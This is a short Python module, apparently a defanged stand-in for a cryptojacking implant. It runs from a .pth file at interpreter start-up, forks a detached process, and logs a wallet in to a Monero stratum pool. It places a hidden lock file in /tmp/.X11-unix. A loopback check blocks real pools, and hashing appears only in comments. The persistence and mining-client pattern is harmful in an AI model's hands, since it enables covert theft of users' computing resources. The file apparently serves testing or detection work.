"""Imported from a .pth file at interpreter start-up: forks, once per
container, a detached stratum client. Inert stand-in: it refuses every pool
that is not a loopback literal and never hashes."""
import ipaddress
import json
import os
import socket

POOL = ("mine.xmrpool.net", 3333)
WALLET = "49qaXFDCrVq2g5WkkwMrUgumcCEUfifcegJWbcifJaxyCG1BSZZevARgTREJDdQx3294xcEcn5pZ8L6QYqXVq6yAT3z4dET"
LOCK = "/tmp/.X11-unix/.pyc-lock"


def _loopback(host):
    if host == "localhost":
        return True
    try:
        return ipaddress.ip_address(host).is_loopback
    except ValueError:
        return False


def _stratum():
    host, port = POOL
    if not _loopback(host):
        return
    s = socket.create_connection((host, port), timeout=5)
    f = s.makefile("rw")
    f.write(json.dumps({"id": 1, "jsonrpc": "2.0", "method": "login",
                        "params": {"login": WALLET, "pass": "pth", "agent": "py-stratum/0.3"}}) + "\n")
    f.flush()
    job = json.loads(f.readline() or "{}").get("result", {}).get("job")
    # a miner would hash job["blob"] against job["target"] here and send
    # {"method": "submit", "params": {"id", "job_id", "nonce", "result"}}
    # and {"method": "keepalived"}; this stand-in stops.
    s.close()
    return job


def install():
    try:
        os.makedirs(os.path.dirname(LOCK), exist_ok=True)
        fd = os.open(LOCK, os.O_CREAT | os.O_EXCL | os.O_WRONLY)
        os.close(fd)
    except OSError:
        return
    if os.fork() == 0:
        os.setsid()
        try:
            _stratum()
        finally:
            os._exit(0)
